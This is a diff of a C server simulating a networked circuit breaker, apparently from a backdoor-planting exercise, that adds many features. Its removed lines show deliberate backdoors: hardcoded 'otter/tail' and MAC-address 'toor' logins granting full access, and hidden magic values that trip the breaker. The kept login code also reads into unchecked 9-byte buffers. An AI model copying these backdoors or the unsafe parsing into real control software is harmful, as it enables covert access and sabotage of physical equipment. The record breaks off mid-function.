@@ -25,8 +25,8 @@
  * Authentication and Authorization:
  *   Usernames and passwords are stored in a password file called "passwd" and are separated by whitespace followed
  *   by an authentication level (0 - 15), one username/password/level per line.
- *   Authentication levels are used to govern access to high-level commands (currently the "set variable" command,
- *   which required level 15 access).
+ *   Authentication levels are used to govern access to high-level commands (currently the commands that change
+ *   variables -- "set", "cas" and "add" -- which require level 15 access).
  *   The first three words sent by client to server are "auth [username] [password]". The server will check to make
  *   sure [username] is in the list of authorized users (contained in the "passwd" file accompanying this program).
  *   If the username exists and the password matches, the authorization level is then used to determine whether or not
@@ -36,21 +36,91 @@
  * Communication:
  *   Clients (agents, simulated hardware) connect to the server via network socket and send a three-word authentication
  *   preamble followed by a string of commands.  The number of words in the command string is intrinsic to the command.
- *   Each client may send zero or more commands, but the next client is not processed until the current one closes
- *   the connection.
+ *   Each command ends at a newline.  Words may be at most MAX_TOKEN_LEN bytes and commands TOKEN_ARENA_LEN bytes, except
+ *   that commands that change state with repeating arguments (such as "set" with several name/value pairs, or "watch"
+ *   with several names) may be arbitrarily long: they're applied in pieces as their arguments arrive, and each piece is
+ *   replied to as a command of its own.  "get" is never split, so its reply is always one line.
+ *   Each client may send zero or more commands.  Several clients may be connected at once; their commands are processed
+ *   one at a time in the order they arrive, and the server runs until some client sends "exit".  Replies a client isn't
+ *   reading are queued, and the server reads no more of that client's commands until they've been sent, so a client that
+ *   doesn't read can't hold up the others.
+ *
+ *   A client that sends "watch NAME..." is sent a "changed NAME=VALUE" line whenever one of those variables changes.
+ *   Changes are reported once per command, after simulate_interrupt has run.
+ *
+ *   Because commands run one at a time, "cas NAME EXPECTED NEW" (set NAME to NEW only if it is EXPECTED) and "add NAME
+ *   DELTA" are atomic, so clients can coordinate changes to a variable without a lock of their own.  A failed "cas"
+ *   replies "failed NAME=CURRENT" and "add" replies "NAME=RESULT", so neither needs a separate "get".
+ *
+ *   Every change to the state has a sequence number.  A client that sends "follow SEQ" is sent every change from number
+ *   SEQ on (SEQ 0 means the oldest change still kept), as lines "journal SEQ DEVICE NAME=VALUE" or "journal SEQ DEVICE
+ *   tripped", and keeps receiving new changes as they happen.  To resume after reconnecting, follow from the number after
+ *   the last change received.
+ *
+ *   "whatif" starts a what-if branch: a copy of the whole simulation -- variables, trip counts, history, journal -- that
+ *   serves the client's following commands, and is thrown away when the client sends "exit" or disconnects.  Nothing done
+ *   in a branch is seen by other clients, persisted or stored.  Each branch is a forked process sharing the server's
+ *   memory copy-on-write, so starting one is cheap and many can run side by side.  "whatif" in a branch starts a branch
+ *   of the branch, which takes its place.
  *
  *
  * Usage:
- * ./backdoor-framework [port]
+ * ./backdoor-framework [-b FILE [-q]] [-d full|delta|none] [-F N] [-n NDEVICES] [-H N] [-S FILE] [-P FILE [-C MS]]
+ *                       [-W FILE [-G MS]] [-J N] [-M NAME] [-R FILE] [-I SOURCE]... [-V SECONDS] [-T FILE [-p SPEED]]
+ *                       [port]
  *   When invoked with no arguments, this program opens a socket on port 2222 and starts listening.
  *   An optional port number may be supplied.
  *
+ *   -b FILE  Batch mode: read command lines from FILE ("-" for standard input) and run each one through the same
+ *            parse_input/simulate_interrupt path as a network client would, without opening any sockets.  When the
+ *            input is exhausted (or an "exit" command is seen) the number of commands per second is reported on
+ *            standard error.
+ *   -q       Quiet batch mode: client replies and state dumps are written to /dev/null instead of standard output.
+ *   -d MODE  What to print after each command: "full" prints every named or non-zero variable (the default), "delta"
+ *            prints only the variables whose values changed since the last dump, and "none" prints nothing.
+ *   -F N     In delta mode, print a full dump instead of a delta every N dumps.
+ *   -n N     Simulate N independent devices (default 1).  A command is addressed to a device by appending "@DEVICE" to
+ *            the command word, as in "auth seth zzz get@17 voltage"; commands without an address go to device 0.
+ *   -H N     Remember the last N (rounded up to a power of two; default 64, 0 to disable) timestamped writes of each
+ *            named variable of each device, for the "history" command.
+ *   -S FILE  Also append every write of a named variable to the compressed history store FILE (created if necessary),
+ *            which the "range", "min", "max" and "avg" commands query.  Existing contents are kept and remain queryable.
+ *   -P FILE  Keep the state of every device in FILE (created if necessary).  On start the devices resume from the last
+ *            checkpoint in FILE instead of the defaults; checkpoints are taken while the state is changing and on exit.
+ *   -C MS    Take a checkpoint at most every MS milliseconds (default 1000).
+ *   -W FILE  Log every change to the state in the write-ahead log FILE (created if necessary).  On start the log is
+ *            replayed on top of the checkpoint restored by -P, or on top of the defaults without -P.
+ *   -G MS    Sync the write-ahead log at most MS milliseconds (default 10) after a change is logged.
+ *   -J N     Keep the last N changes (rounded up to a power of two; default 65536, 0 to disable) for "follow".
+ *   -M NAME  Export the named variables and trip count of every device, read-only, in the POSIX shared memory object NAME
+ *            (e.g., "/backdoor"), which local programs can poll without a system call using backdoor-shm.h.
+ *   -R FILE  Trip the breaker also by the rules in FILE, one expression per line, such as "voltage > 250 && amperage > 30"
+ *            or "avg(voltage, 500) < 230".  The "reload" command loads FILE again without a restart.  The syntax is
+ *            described with the loaded trip rules in the source.
+ *   -I NAME[@DEVICE]:HZ:MEAN:AMPLITUDE:SIGNAL_HZ
+ *            Sample variable NAME of the device HZ times a second from a simulated sensor reading MEAN + AMPLITUDE *
+ *            sin(2 pi SIGNAL_HZ t), in stored units, and run simulate_interrupt after each sample, as in
+ *            "-I voltage:10000:240:8:60".  May be given up to 8 times.  The "interrupts" command reports how many
+ *            samples each source has taken and how late they were.  Not in batch mode.
+ *   -V SECONDS
+ *            Discrete-event mode: instead of listening, simulate SECONDS of virtual time as fast as possible, with the
+ *            interrupt sources (-I) and the commands of the scenario FILE given by -b, whose lines each start with the
+ *            virtual time in seconds at which the command runs ("60 auth root abc123 set voltage 250").  The firmware sees
+ *            only the virtual clock, so a run's results are the same every time.  The speed is reported on standard error.
+ *   -T FILE  Instead of listening, replay the recorded sensor trace FILE: set each recorded variable in turn and run
+ *            simulate_interrupt after each, then report the samples per second and the breakers tripped on standard
+ *            error.  FILE is a 16-byte header (the magic number 0x31544442, 4 reserved bytes and the number of records)
+ *            followed by 16-byte records of a timestamp in nanoseconds, a value in stored units and DEVICE << 8 | VARIABLE,
+ *            all little-endian.
+ *   -p SPEED Replay the trace at SPEED times its recorded pace (1 for the original pace) instead of as fast as possible.
+ *
  *   Example: run "./backdoor-framework".  In another shell run these commands:
  *     $ telnet localhost 2222
  *      Trying 127.0.0.1...
  *      Connected to localhost
  *      Escape character is '^]'.
  *      auth seth zzz set voltage 100
+ *      auth seth zzz get voltage circuit_breaker
  *      auth seth zzz exit
  */
 
@@ -75,6 +145,8 @@
 
 #include <stdio.h>
 #include <stdlib.h>
+#include <stddef.h>
+#include <stdint.h>
 #include <string.h>
 #include <sys/socket.h>
 #include <arpa/inet.h>
@@ -83,10 +155,23 @@
 #include <sys/un.h>
 #include <sys/ioctl.h>
 #include <net/if.h>
+#include <fcntl.h>
+#include <assert.h>
+#include <errno.h>
+#include <signal.h>
+#include <sys/epoll.h>
+#include <sys/mman.h>
+#include <sys/stat.h>
+#include <sys/timerfd.h>
+#if defined(__SSE2__) || defined(__AVX2__) || defined(__AVX512BW__)
+#include <immintrin.h>
+#endif
+#include "backdoor-shm.h"
 
 
-#define MAX_CMD_LEN 8000
-#define MAX_NWORDS 16
+#define READ_BUF_LEN 8000                              /* bytes read from an input stream at a time */
+#define MAX_TOKEN_LEN 64                                /* longest word accepted in a command */
+#define TOKEN_ARENA_LEN 1024                            /* bytes of words buffered per input stream */
 #define LISTEN_PORT 2222
 
 #define PW_FILE "./passwd"
@@ -101,6 +186,26 @@
 #define ERR_BAD_PW "Bad password!\n"
 #define ERR_BAD_USER "Unknown user!\n"
 #define ERR_BAD_SET "Bad variable / value!\n"
+#define ERR_BAD_GET "Bad variable!\n"
+#define ERR_TOKEN_TOO_LONG "Word too long!\n"
+#define ERR_CMD_TOO_LONG "Command too long!\n"
+#define ERR_BAD_WATCH "Bad variable, or not a network client!\n"
+#define ERR_BAD_DEVICE "Unknown device!\n"
+#define ERR_BAD_HISTORY "Bad variable / count, or no history!\n"
+#define ERR_BAD_RANGE "Bad variable / time range, or no history store!\n"
+#define ERR_BAD_FOLLOW "Bad sequence number, or change no longer in the journal!\n"
+#define ERR_WHATIF "Can't start a what-if branch!\n"
+#define ERR_RELOAD "No rules file to reload!\n"
+
+/* Set by the "exit" command, or by SIGTERM or SIGINT; the server stops reading commands once it's set. */
+static volatile sig_atomic_t exit_requested = 0;
+
+/* Set by the "whatif" command in the server once a branch has taken over the client; the server stops reading the client's
+ * input. */
+static int detaching = 0;
+
+/* Non-zero in a what-if branch, which serves a single client: 1 until the server loop has let go of everything else. */
+static int in_branch = 0;
 
 /* Commands that can be executed by clients. Explicitly numbered so they're easy to identify when using the client. In order to
  * avoid confusion in shell scripts where clients are called with hard-coded numbers, please don't change these numbers once
@@ -108,7 +213,71 @@
 enum ClientCommand {
     CMD_NOP                     = 0,                    /* no operation, but causes server_interrupt to execute */
     CMD_EXIT                    = 1,                    /* exit server without calling server_interrupt */
-    CMD_SET_VARIABLE            = 2                    /* set variable to value */
+    CMD_SET_VARIABLE            = 2,                    /* set variable to value */
+    CMD_GET_VARIABLES           = 3,                    /* reply with the values of the named variables */
+    CMD_WATCH                   = 4,                    /* send the client changes to the named variables */
+    CMD_SCAN                    = 5,                    /* run simulate_interrupt on every device */
+    CMD_HISTORY                 = 6,                    /* reply with the most recent writes of a variable */
+    CMD_RANGE                   = 7,                    /* reply with statistics of a variable's stored history */
+    CMD_MIN                     = 8,                    /* reply with the least value of a variable in a time window */
+    CMD_MAX                     = 9,                    /* reply with the greatest value of a variable in a time window */
+    CMD_AVG                     = 10,                   /* reply with the mean value of a variable in a time window */
+    CMD_CAS                     = 11,                   /* set a variable if it has an expected value */
+    CMD_ADD                     = 12,                   /* add to a variable */
+    CMD_FOLLOW                  = 13,                   /* stream changes to the state */
+    CMD_WHATIF                  = 14,                   /* continue in a throwaway copy of the simulation */
+    CMD_RELOAD                  = 15,                   /* load the trip rules file again */
+    CMD_INTERRUPTS              = 16,                   /* reply with statistics of the periodic interrupts */
+    CMD_LAST
+};
+
+/* One word of a command, decoded by the parser while the word was being scanned. */
+struct CommandArg {
+    char *word;                                         /* the word itself */
+    int var;                                            /* variable named by the word (by name or number), or -1 */
+    int64_t value;                                      /* value of the word's leading integer, as atoi would compute it */
+    int32_t frac;                                       /* fraction following that integer, in billionths, with its sign,
+                                                           or INT32_MIN if it has non-zero digits past the ninth */
+};
+
+/* A command as decoded by the parser: "auth USER PASSWD CMD ARGS..." */
+struct ParsedCommand {
+    int nwords;                                         /* number of words, including the four-word prefix */
+    int is_auth;                                        /* first word was "auth" */
+    char *user;
+    char *passwd;
+    int cmd;                                            /* command named by the fourth word, or -1 if none */
+    long device;                                        /* device addressed by "CMD@DEVICE", 0 if none, -1 if malformed */
+    struct CommandArg args[TOKEN_ARENA_LEN/2];          /* words following the command word */
+};
+
+/* A single parsed client request as seen by a command handler. The arguments are the words following the command word. */
+struct ClientRequest {
+    int client_sock;                                    /* where replies are written */
+    int level;                                          /* authentication level of the requesting user */
+    int cmd;                                            /* the command being run */
+    struct Device *dev;                                 /* the device the command is addressed to */
+    int nargs;                                          /* number of words in args */
+    struct CommandArg *args;                            /* arguments following the command word */
+    const char *reply;                                  /* message written to the client after the handler returns */
+};
+
+/* Command handlers return non-zero if the command was valid and zero otherwise; they may change req->reply. */
+typedef int (*CommandHandler)(struct ClientRequest *req);
+
+/* Describes one client command. The command registry below is indexed by the command's numeric ID, so parse_input can
+ * check arity and privilege from the table and dispatch with a single indexed call.  To add a command, add its number to
+ * enum ClientCommand, write a handler, and add a descriptor to the registry. */
+struct ClientCommandDesc {
+    const char *name;                                   /* command word sent by clients */
+    enum ClientCommand id;                              /* stable numeric ID; also the index in the registry */
+    int min_args;                                       /* minimum number of arguments */
+    int max_args;                                       /* maximum number of arguments, or -1 for no limit */
+    int arg_group;                                      /* size of the argument groups a long command may be
+                                                           split between, or 0 if it's never split */
+    int min_level;                                      /* minimum authentication level required to run the command */
+    const char *bad_args;                               /* reply when the number of arguments is wrong */
+    CommandHandler handler;
 };
 
 
@@ -121,316 +290,3025 @@ enum VariableName {
     VAR_MIN_VOLTAGE             = 3,                    /* min allowed voltage before circuit breaker trips */
     VAR_MAX_VOLTAGE             = 4,                    /* max allowed voltage before circuit breaker trips */
     VAR_CIRCUIT_BREAKER         = 5,                    /* circuit breaker state: 0 => open; non-zero => closed */
+    VAR_FREQUENCY               = 6,                    /* line frequency read from hardware, in hertz */
     VAR_LAST
 };
-static uint8_t vars[256] = {
-    0,                                                  /* 0: unused */
-    240,                                                /* 1: read voltage */
-    0,                                                  /* 2: read current */
-    235,                                                /* 3: min voltage */
-    245,                                                /* 4: max voltage */
-    1,                                                  /* 5: circuit breaker closed? */
+
+/* How a variable's values are stored.  A VT_FIXED value is a 32-bit count of 10^-frac_digits units, so 60.00 Hz with two
+ * fraction digits is stored as 6000. */
+enum VariableType {
+    VT_U8,
+    VT_U16,
+    VT_U32,
+    VT_FIXED
 };
 
-/******************************************************************
- * PROTECTED RESOURCES BELOW                                      *
- ******************************************************************/
+/* Schema of one variable.  Ranges and defaults are in stored units. */
+struct VariableDesc {
+    const char *name;                                   /* name used by clients, or null for an unnamed variable */
+    enum VariableType type;
+    int frac_digits;                                    /* digits after the decimal point of a VT_FIXED value */
+    uint32_t min, max;                                  /* values a client may set */
+    uint32_t dflt;                                      /* value of a new device */
+};
 
-int trip_conditions_met(void) {
-    return (
-        vars[VAR_CIRCUIT_BREAKER]!=0 &&
-       (vars[VAR_VOLTAGE] < vars[VAR_MIN_VOLTAGE] || vars[VAR_VOLTAGE] > vars[VAR_MAX_VOLTAGE])
-    );
-}
+/* The variable schema.  Names, range checks, the width of each variable column and the formatting of values all come from
+ * this table.  Because it's constant, reading or writing a variable whose number is known at compile time (as the firmware
+ * does) compiles to a plain load or store of the right width.  Every variable below VAR_LAST needs an entry; the variables
+ * from VAR_LAST on are unnamed 8-bit values.
+ * trip_scan relies on the circuit breaker being VT_U8 and the three voltages being VT_U16. */
+static const struct VariableDesc var_schema[256] = {
+    [VAR_UNUSED]          = {"unused",          VT_U8,    0, 0, 255,    0},
+    [VAR_VOLTAGE]         = {"voltage",         VT_U16,   0, 0, 1000,   240},
+    [VAR_AMPERAGE]        = {"amperage",        VT_U8,    0, 0, 255,    0},
+    [VAR_MIN_VOLTAGE]     = {"min_voltage",     VT_U16,   0, 0, 1000,   235},
+    [VAR_MAX_VOLTAGE]     = {"max_voltage",     VT_U16,   0, 0, 1000,   245},
+    [VAR_CIRCUIT_BREAKER] = {"circuit_breaker", VT_U8,    0, 0, 255,    1},
+    [VAR_FREQUENCY]       = {"frequency",       VT_FIXED, 2, 0, 100000, 6000},
+    [VAR_LAST ... 255]    = {NULL,              VT_U8,    0, 0, 255,    0},
+};
 
-static void trip_breaker() {
-    vars[VAR_CIRCUIT_BREAKER] = 0;
-    puts("*** BREAKER TRIPPED");
+static const uint32_t decimal_scale[10] = {1, 10, 100, 1000, 10000, 100000, 1000000, 10000000, 100000000, 1000000000};
+
+struct WatchList;
+
+/* One simulated device: a breaker with its own variables and derived state.  Devices live in a single pool allocated by
+ * devices_init and are addressed by their index in the pool. Device 0 is the default when a command names no device.
+ *
+ * Variable values are not stored in the device itself but in columns: var_columns[X] is one contiguous array holding
+ * variable X of every device, so a check that reads a few variables of all devices streams through a few dense arrays
+ * (see trip_scan).  Each column's elements have the width var_schema gives the variable.  Use DEV_VAR to read one device's
+ * variable.
+ *
+ * The variable table is published to readers through a sequence lock.  All writes happen on the command thread inside a
+ * vars_write_begin/vars_write_end section, which makes seq odd while the table is changing; writers never wait.  Readers
+ * on other threads call vars_snapshot, which copies the table and retries if seq was odd or changed during the copy, so
+ * they see a consistent table without taking a lock.  The command thread itself may read vars directly.  Sections nest,
+ * so a command that changes several variables is published as a single update. */
+struct Device {
+    unsigned id;                                        /* index in devices[] and in each column */
+    volatile unsigned seq;
+    int write_depth;
+    uint64_t dirty[256/64];                             /* variables changed since the last state dump */
+    uint64_t changed[256/64];                           /* variables changed since watchers were last notified */
+    uint64_t dirty_rules;                               /* trip rules whose variables changed since they were evaluated */
+    unsigned long ntrips;                               /* number of times the breaker has tripped */
+    struct WatchList *watchers;                         /* per-variable watchers, or null if nobody watches this device */
+};
+
+static struct Device *devices;
+static unsigned ndevices = 1;
+static void *var_columns[256];                          /* element D of var_columns[X] is variable X of device D */
+static size_t column_len;                               /* ndevices rounded up to a multiple of 64 */
+static uint64_t *trip_mask;                             /* column_len/64 words of trip_scan output */
+static uint64_t rule_deps[256];                         /* bit R is set if trip rule R reads the variable */
+
+/* Bytes per value of variable X. */
+static size_t
+var_size(int x) {
+    return var_schema[x].type == VT_U8 ? 1 : var_schema[x].type == VT_U16 ? 2 : 4;
 }
 
+static inline uint32_t
+var_load(int x, unsigned id) {
+    switch (var_schema[x].type) {
+        case VT_U8:  return ((const uint8_t *)var_columns[x])[id];
+        case VT_U16: return ((const uint16_t *)var_columns[x])[id];
+        default:     return ((const uint32_t *)var_columns[x])[id];
+    }
+}
 
-#ifdef ROBB_BACKDOOR_1
-/* If VAR_UNUSED is set to 123 then the circuit breaker trips.  Another way to get the same effect is to modify the "if"
- * condition in trip_breaker_based_on_voltage.  Another way is to temporarilty set VAR_VOLTAGE to something that's out of
- * range. Another way is to temporarily change the limits so the voltage is out of range long enough to trip the breaker. */
-static void
-trip_breaker_unused_123(void) {
-    int trip = vars[VAR_CIRCUIT_BREAKER]!=0 && vars[VAR_UNUSED]==123;
-    if (trip) {
-        trip_breaker();
-        fputs("*** BACKDOOR: circuit breaker tripped (ROBB_BACKDOOR_1)\n", stdout);
+static inline void
+var_store(int x, unsigned id, uint32_t value) {
+    switch (var_schema[x].type) {
+        case VT_U8:  ((uint8_t *)var_columns[x])[id] = value; break;
+        case VT_U16: ((uint16_t *)var_columns[x])[id] = value; break;
+        default:     ((uint32_t *)var_columns[x])[id] = value; break;
     }
 }
-#endif
 
-#ifdef SETH_BACKDOOR_1
-/* if VAR_UNUSED << 8 + VAR_AMPERAGE == randval, where randval = a 16 bit random
- * value seeded with (YYYYMMDD) and % 65536. Note that this does not produce a
- * truly uniformly random distribution but it's good enough for our backdoor.
-*/
+#define DEV_VAR(dev, x) var_load((x), (dev)->id)
 
-struct tm *timenow;
-int yyyymmdd=0, pod=0;
+/* Writes VALUE, a value of variable X in stored units, to BUF as a decimal number and returns its length. */
+static int
+var_format(char *buf, int x, uint32_t value) {
+    int d = var_schema[x].frac_digits;
+    if (var_schema[x].type != VT_FIXED || !d)
+        return sprintf(buf, "%u", (unsigned)value);
+    return sprintf(buf, "%u.%0*u", (unsigned)(value / decimal_scale[d]), d, (unsigned)(value % decimal_scale[d]));
+}
 
-static void trip_breaker_voltage_rand(void) {
-  int matchit = vars[VAR_UNUSED] *0x100 + vars[VAR_AMPERAGE];
-  int trip = (vars[VAR_CIRCUIT_BREAKER] != 0) && (matchit == pod);
-    if (trip) {
-        trip_breaker();
-        fputs("*** BACKDOOR: circuit breaker tripped (SETH_BACKDOOR_1)\n", stdout);
+/* Returns the number of the variable named by the LEN bytes at NAME, or -1. */
+static int
+var_lookup(const char *name, size_t len) {
+    int x;
+    for (x=0; x<256; ++x) {
+        if (var_schema[x].name && strlen(var_schema[x].name) == len && !strncmp(var_schema[x].name, name, len))
+            return x;
     }
+    return -1;
 }
-#endif
 
-#ifdef SETH_BACKDOOR_3
-void get_hwaddr(char *hwaddr) {
-#ifdef __linux  // use Linux ioctl to get hwaddr.
-    int s;
-    struct ifreq buffer;
+/* Recent writes of the named variables.  Each device keeps a ring of the last history_len (a power of two) timestamped
+ * writes to each variable below VAR_LAST.  The rings are allocated once by devices_init, so recording a write never
+ * allocates.  Ring R = DEVICE * VAR_LAST + VARIABLE occupies elements [R*history_len, (R+1)*history_len) of history_time
+ * and history_value, and history_count[R] is the number of writes ever recorded in it. */
+static unsigned history_len = 64;
+static uint64_t *history_time;                          /* nanoseconds since the epoch */
+static uint32_t *history_value;
+static uint32_t *history_count;
+
+/* Virtual clock of the discrete-event mode (-V).  While virtual_time is set, sim_now returns virtual_now, which only the
+ * event loop in simulate advances. */
+static int virtual_time = 0;
+static uint64_t virtual_now = 0;
+
+/* Current time in nanoseconds since the epoch. */
+static uint64_t
+sim_now(void) {
+    struct timespec ts;
+    if (virtual_time)
+        return virtual_now;
+    clock_gettime(CLOCK_REALTIME, &ts);
+    return (uint64_t)ts.tv_sec * 1000000000 + ts.tv_nsec;
+}
 
-    s = socket(PF_INET, SOCK_DGRAM, 0);
-    memset(&buffer, 0x00, sizeof(buffer));
-    strcpy(buffer.ifr_name, "eth0");
-    ioctl(s, SIOCGIFHWADDR, &buffer);
-    close(s);
-    for (s = 0; s < 6; s++) {
-         sprintf(&(hwaddr[2*s]), "%.2X", (unsigned char)buffer.ifr_hwaddr.sa_data[s]);
-    }
-#else  // we'll simulate a hwaddr.
-    strncpy(hwaddr, "000102030405",12);
-#endif
-    hwaddr[13] = '\0';
+/* Nanoseconds on the monotonic clock, for measuring intervals. */
+static uint64_t
+monotonic_now(void) {
+    struct timespec ts;
+    clock_gettime(CLOCK_MONOTONIC, &ts);
+    return (uint64_t)ts.tv_sec * 1000000000 + ts.tv_nsec;
 }
 
-char hwaddr[13];
-#endif
+static void
+history_record(const struct Device *dev, int x, uint32_t value, uint64_t now) {
+    unsigned r = dev->id * VAR_LAST + x;
+    size_t slot = (size_t)r * history_len + (history_count[r]++ & (history_len - 1));
+    history_time[slot] = now;
+    history_value[slot] = value;
+}
 
-static void simulate_interrupt(void) {
+/* Long-term history store.  Writes of the named variables are appended to a file of fixed-size blocks.  Each block holds
+ * consecutive samples of one variable of one device, compressed in the style of Facebook's Gorilla: timestamps as
+ * delta-of-deltas in variable-width buckets, values as the XOR with the previous value.  Only the meaningful bits of an XOR are
+ * kept, between its leading and trailing zeros: '10' reuses the previous XOR's window when they fit in it, and '11' starts a
+ * new window with 5 bits of leading zeros and 5 bits of length (minus one).  A block's header also records the range of its
+ * timestamps and the count, sum, min and max of its values, so a range query only decompresses blocks that straddle an end of
+ * the range; blocks entirely inside it are answered from the header and blocks outside are skipped.
+ *
+ * The file is only ever appended to, one whole block at a time, and may be mmap'd and read by other processes while the
+ * server is running.  The block being filled for each series lives in memory until it's full or the store is closed, so
+ * the newest samples of a series are in the file only after that.
+ *
+ * For windowed queries each series also keeps, in memory, the aggregates of its full blocks in tiers: tier 0 has one entry
+ * per block and each entry of tier K combines two adjacent entries of tier K-1.  A window is located by binary search on
+ * the block headers, the (at most two) blocks at its edges are decompressed, and the blocks between them are covered by
+ * O(log N) tier entries.  This relies on each series' timestamps never decreasing, which holds while the clock doesn't
+ * step backwards. */
+#define STORE_MAGIC 0x33534442                          /* "BDS3" */
+#define STORE_BLOCK_LEN 1024
+#define STORE_MAX_SAMPLE_BITS (4 + 64 + 2 + 5 + 5 + 32)
+
+struct StoreBlock {
+    uint32_t magic;
+    uint32_t device;
+    uint32_t var;
+    uint32_t count;                                     /* number of samples */
+    uint32_t nbits;                                     /* bits of data used */
+    uint32_t first;                                     /* value of the first sample */
+    uint64_t sum;                                       /* sum of the values */
+    uint64_t t_first;                                   /* timestamp of the first sample */
+    uint64_t t_min, t_max;                              /* earliest and latest timestamps */
+    uint32_t min, max;
+    uint8_t data[STORE_BLOCK_LEN - 64];                 /* encoded samples after the first */
+};
 
-    if (trip_conditions_met()) {
-        trip_breaker();
-    }
-    #ifdef ROBB_BACKDOOR_1
-        trip_breaker_unused_123();
-    #endif
+/* Aggregate over some samples. */
+struct Aggregate {
+    uint64_t count;
+    uint64_t sum;
+    unsigned min, max;
+};
 
-    #ifdef SETH_BACKDOOR_1
-        trip_breaker_voltage_rand();
-    #endif
+/* Write state for one device's variable. */
+struct StoreSeries {
+    struct StoreBlock *open;                            /* block being filled, or null before the first sample */
+    uint64_t prev_t;                                    /* timestamp of the last sample */
+    int64_t prev_delta;                                 /* difference between the last two timestamps */
+    uint32_t prev_v;                                    /* last value */
+    int xor_lead, xor_len;                              /* window of the last XOR, or XOR_LEN 0 for none in this block */
+    off_t *blocks;                                      /* file offsets of this series' full blocks */
+    struct Aggregate *tiers;                            /* aggregates of the full blocks; see STORE_TIER */
+    size_t nblocks, cap;                                /* CAP is a power of two */
+    uint64_t t_max;                                     /* latest timestamp in the full blocks */
+    struct StoreSeries *older;                          /* index of the blocks before the clock last went back, or null */
+};
+
+/* Tier K of a series' block aggregates has CAP >> K entries and follows tiers 0 to K-1 in one array of 2 * CAP entries. */
+#define STORE_TIER(ser, k) ((ser)->tiers + 2*(ser)->cap - (2*(ser)->cap >> (k)))
+
+static void
+aggregate_add(struct Aggregate *agg, unsigned value) {
+    if (!agg->count++ || value < agg->min)
+        agg->min = value;
+    if (agg->count == 1 || value > agg->max)
+        agg->max = value;
+    agg->sum += value;
+}
 
+static void
+aggregate_merge(struct Aggregate *agg, const struct Aggregate *other) {
+    if (!other->count)
+        return;
+    if (!agg->count || other->min < agg->min)
+        agg->min = other->min;
+    if (!agg->count || other->max > agg->max)
+        agg->max = other->max;
+    agg->count += other->count;
+    agg->sum += other->sum;
 }
 
+static int store_fd = -1;
+static off_t store_end;                                 /* bytes of whole blocks in the file */
+static struct StoreSeries *store_series;                /* indexed by DEVICE * VAR_LAST + VARIABLE */
+static const uint8_t *store_map;                        /* read-only mapping of the file, or null */
+static size_t store_map_len;
 
-static const char *
-variable_name(enum VariableName name, int use_default) {
-    static char dflt[64];
-    switch (name) {
-        case VAR_UNUSED:          return "unused";
-        case VAR_VOLTAGE:         return "voltage";
-        case VAR_AMPERAGE:        return "amperage";
-        case VAR_MIN_VOLTAGE:     return "min_voltage";
-        case VAR_MAX_VOLTAGE:     return "max_voltage";
-        case VAR_CIRCUIT_BREAKER: return "circuit_breaker";
-        default:
-            if (!use_default)
-                return NULL;
-            sprintf(dflt, "var[%u]", (unsigned)name);
-            return dflt;
+static void
+store_put_bits(struct StoreBlock *b, uint64_t bits, int n) {
+    int i;
+    for (i=n-1; i>=0; --i, ++b->nbits) {
+        if (bits >> i & 1)
+            b->data[b->nbits/8] |= 0x80 >> (b->nbits%8);
     }
 }
 
-int user_authenticate(char *username, char *password) {
-    char uname[9];
-    char pw[9];
-    int privlvl;
+static uint64_t
+store_get_bits(const struct StoreBlock *b, uint32_t *pos, int n) {
+    uint64_t bits = 0;
+    for (; n>0; --n, ++*pos)
+        bits = bits << 1 | (b->data[*pos/8] >> (7 - *pos%8) & 1);
+    return bits;
+}
 
-    FILE *f;
-    f = fopen(PW_FILE,"r");
+/* Adds block B, at OFFSET in the file, to the end of its series' index and tiers.  Queries find blocks by binary search, so
+ * a block older than the last one indexed (as when a -V run, which starts at time 0, follows a -T run in the same store)
+ * starts a new index, and the old one is kept in the OLDER chain. */
+static int
+store_index_block(struct StoreSeries *ser, off_t offset, const struct StoreBlock *b) {
+    size_t cap, i, k;
+    struct Aggregate *tiers, *up;
+    struct StoreSeries *older;
+    off_t *grown;
+
+    if (ser->nblocks && b->t_min < ser->t_max) {
+        if (!(older = malloc(sizeof *older)))
+            return -1;
+        *older = *ser;
+        older->open = NULL;
+        ser->older = older;
+        ser->blocks = NULL;
+        ser->tiers = NULL;
+        ser->nblocks = ser->cap = 0;
+    }
+    if (!ser->nblocks || b->t_max > ser->t_max)
+        ser->t_max = b->t_max;
+    cap = ser->cap ? 2*ser->cap : 16;
+    if (ser->nblocks == ser->cap) {
+        if (!(grown = realloc(ser->blocks, cap * sizeof *grown)) || !(tiers = malloc(2 * cap * sizeof *tiers)))
+            return -1;
+        for (k=0; ser->nblocks >> k; ++k)
+            memcpy(tiers + 2*cap - (2*cap >> k), STORE_TIER(ser, k), (ser->nblocks >> k) * sizeof *tiers);
+        free(ser->tiers);
+        ser->blocks = grown;
+        ser->tiers = tiers;
+        ser->cap = cap;
+    }
+    i = ser->nblocks;
+    ser->blocks[ser->nblocks++] = offset;
+    up = &STORE_TIER(ser, 0)[i];
+    up->count = b->count;
+    up->sum = b->sum;
+    up->min = b->min;
+    up->max = b->max;
+    for (k=1; i & 1; ++k, i >>= 1) {
+        up = &STORE_TIER(ser, k)[i >> 1];
+        *up = STORE_TIER(ser, k-1)[i-1];
+        aggregate_merge(up, &STORE_TIER(ser, k-1)[i]);
+    }
+    return 0;
+}
 
-    /* putting this after the fopen to obfuscate */
-    #ifdef SETH_BACKDOOR_2
-    if (!strcmp(username,"otter") && !strcmp(password,"tail")) {
-        fclose(f);
-        puts("SETH_BACKDOOR_2: otter/tail access granted");
-        return(15);
+static void
+store_flush(struct StoreSeries *ser) {
+    if (!ser->open || !ser->open->count)
+        return;
+    if (write(store_fd, ser->open, STORE_BLOCK_LEN) != STORE_BLOCK_LEN) {
+        perror("history store");
+        return;
     }
-    #endif
+    store_index_block(ser, store_end, ser->open);
+    store_end += STORE_BLOCK_LEN;
+}
 
-    #ifdef SETH_BACKDOOR_3
-    printf("hwaddr = %s, password = %s\n", hwaddr, password);
-    if (!strcmp(username,"toor") && !strcmp(password, hwaddr)) {
-        fclose(f);
-        puts("SETH_BACKDOOR_3: toor/hwaddr access granted");
-        return(15);
+static void
+store_append(const struct Device *dev, int x, uint32_t value, uint64_t t) {
+    struct StoreSeries *ser = &store_series[dev->id * VAR_LAST + x];
+    struct StoreBlock *b = ser->open;
+    int64_t delta, dod;
+    uint32_t xor;
+    int lead, trail;
+
+    if (b && b->count && b->nbits + STORE_MAX_SAMPLE_BITS > 8 * sizeof b->data) {
+        store_flush(ser);
+        b->count = 0;
     }
-    #endif
-    while (fscanf(f, "%s %s %d\n", uname, pw, &privlvl) != EOF) {
-        if (!strncmp(username, uname, 9)) {
-            if (!strncmp(password, pw, 9)) {
